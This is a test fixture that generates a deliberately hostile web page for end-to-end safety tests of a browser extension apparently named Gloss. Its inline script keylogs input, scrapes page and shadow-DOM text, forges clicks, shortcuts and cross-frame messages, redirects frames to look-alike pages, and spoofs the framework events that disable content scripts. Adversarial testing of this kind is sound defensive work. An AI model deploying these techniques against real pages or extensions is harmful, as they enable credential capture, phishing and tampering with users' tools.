import { ARTICLE_SENTENCES, QUOTE } from './hostile';

/**
 * A page that attacks Gloss with its own scripts only, for tests/e2e/page-safety.e2e.ts. Everything
 * it can read lands in `window.__loot` (one string, so a test can look for secrets in it); every
 * key it hears lands in `window.__keys`. The attacks are exposed as `window.__attack.<name>()`.
 */
export const spyPage = () => `<!doctype html>
<html lang="en"><head><meta charset="utf-8"><title>Council approves transit budget</title>
<script>
  window.__loot = '';
  window.__keys = '';
  const loot = (s) => { window.__loot += String(s) + '\\n'; };
  for (const type of ['keydown', 'keypress', 'keyup', 'input', 'beforeinput']) {
    window.addEventListener(type, (e) => { if (e.key) window.__keys += e.key.length === 1 ? e.key : ''; if (e.data) window.__keys += e.data; }, true);
  }
  window.addEventListener('message', (e) => loot('message ' + JSON.stringify(e.data)));
  const shadowText = (root) => {
    let out = '';
    for (const el of root.querySelectorAll('*')) {
      if (el.shadowRoot) out += el.shadowRoot.textContent + ' ' + shadowText(el.shadowRoot);
      if (el.value) out += ' value=' + el.value;
      if (el.tagName === 'IFRAME') { out += ' iframe=' + el.src; try { out += el.contentDocument.body.innerText; } catch (e) { out += ' (cross-origin)'; } }
    }
    return out;
  };
  const markRects = () => {
    const rects = [];
    for (const [name, h] of CSS.highlights) for (const r of h) { loot('painted ' + name + ': ' + r.toString()); const b = r.getBoundingClientRect(); rects.push([b.left + b.width / 2, b.top + b.height / 2]); }
    return rects;
  };
  const sleep = (ms) => new Promise((r) => setTimeout(r, ms));
  const selectQuote = (text) => {
    const p = [...document.querySelectorAll('p')].find((p) => p.textContent.includes(text));
    const node = p.firstChild, start = node.data.indexOf(text);
    const range = document.createRange();
    range.setStart(node, start); range.setEnd(node, start + text.length);
    getSelection().removeAllRanges(); getSelection().addRange(range);
    return range;
  };
  window.__attack = {
    collect() { loot('dom ' + document.body.innerText + shadowText(document)); for (let i = 0; i < frames.length; i++) { try { loot('frame ' + frames[i].document.body.innerText); } catch (e) { loot('frame ' + i + ' cross-origin'); } } },
    /** Synthetic mouseups on every mark, then read whatever opened. */
    async harvest() {
      for (const [x, y] of markRects()) {
        const target = document.elementFromPoint(x, y) || document.body;
        for (const type of ['mousedown', 'mouseup', 'click']) target.dispatchEvent(new MouseEvent(type, { bubbles: true, clientX: x, clientY: y }));
        await sleep(600);
        this.collect();
        document.dispatchEvent(new KeyboardEvent('keydown', { key: 'Escape', bubbles: true }));
      }
    },
    /** Tags text the reader never chose: toolbar clicks and shortcuts made by script. */
    async forge(text) {
      selectQuote(text);
      document.dispatchEvent(new MouseEvent('mouseup', { bubbles: true }));
      await sleep(200);
      const ui = document.querySelector('gloss-ui');
      for (const b of (ui && ui.shadowRoot ? ui.shadowRoot.querySelectorAll('button') : [])) b.click();
      selectQuote(text);
      for (const code of ['KeyP', 'KeyC', 'KeyO', 'KeyH']) document.dispatchEvent(new KeyboardEvent('keydown', { key: code.slice(3), code, altKey: true, shiftKey: true, bubbles: true }));
      await sleep(800);
      this.collect();
    },
    /** Forged messages to every frame, fields set wherever the page can reach one. */
    async tamper() {
      for (let i = 0; i < frames.length; i++) {
        for (const data of [{ type: 'gloss:card-token', token: 'forged' }, { type: 'gloss:card-close' }, { type: 'annotation:update', payload: { note: 'defaced' } }]) frames[i].postMessage(data, '*');
      }
      const ui = document.querySelector('gloss-ui');
      for (const field of (ui && ui.shadowRoot ? ui.shadowRoot.querySelectorAll('textarea, input, select') : [])) { field.value = 'defaced'; field.dispatchEvent(new Event('input', { bubbles: true })); }
      for (const b of (ui && ui.shadowRoot ? ui.shadowRoot.querySelectorAll('button') : [])) if (/Delete/.test(b.textContent)) b.click();
      await sleep(500);
      this.collect();
    },
    /** Points every frame somewhere else: a look-alike card would catch what the reader types. */
    hijackFrames(url) { for (let i = 0; i < frames.length; i++) frames[i].location.href = url; },
    /**
     * Points any frame it can get hold of at a look-alike the moment it can: each new frame in
     * window.frames, before what it was loading arrives, and any frame that posts it a message.
     */
    hijackOnSight(url) {
      let seen = frames.length;
      setInterval(() => { for (let i = seen; i < frames.length; i++) frames[i].location.href = url; seen = frames.length; }, 1);
      addEventListener('message', (e) => { if (e.source && e.source !== window) e.source.location.href = url; });
    },
    /** What turned WXT's content scripts off, and fake URL changes. */
    switchOff(extensionId) {
      for (const id of [extensionId, 'undefined']) {
        const type = id + ':content:wxt:content-script-started';
        document.dispatchEvent(new CustomEvent(type, { detail: { contentScriptName: 'content', messageId: 'forged' } }));
        window.postMessage({ type, contentScriptName: 'content', messageId: 'forged' }, '*');
        window.dispatchEvent(new CustomEvent(id + ':content:wxt:locationchange', { detail: { newUrl: 'https://victim.example/' } }));
      }
      window.dispatchEvent(new Event('wxt:locationchange'));
      if (window.navigation) navigation.dispatchEvent(new Event('navigate'));
    },
    tamperHighlights() {
      for (const [name, h] of [...CSS.highlights]) { if (name === 'gloss-claim') for (const r of h) r.setStart(r.startContainer, 0); }
      CSS.highlights.delete('gloss-person');
      const h = CSS.highlights.get('gloss-highlight'); if (h) { h.clear(); h.add(selectQuote('mayor')); getSelection().removeAllRanges(); }
    },
    frameCard(url) { const f = document.createElement('iframe'); f.src = url; document.body.append(f); return new Promise((r) => { f.onload = () => r(true); f.onerror = () => r(false); setTimeout(() => r(false), 3000); }); },
  };
</script></head>
<body><article><h1>Council approves transit budget</h1>
${ARTICLE_SENTENCES.map((s) => `<p>${s}</p>`).join('\n')}
</article></body></html>`;

export { QUOTE };
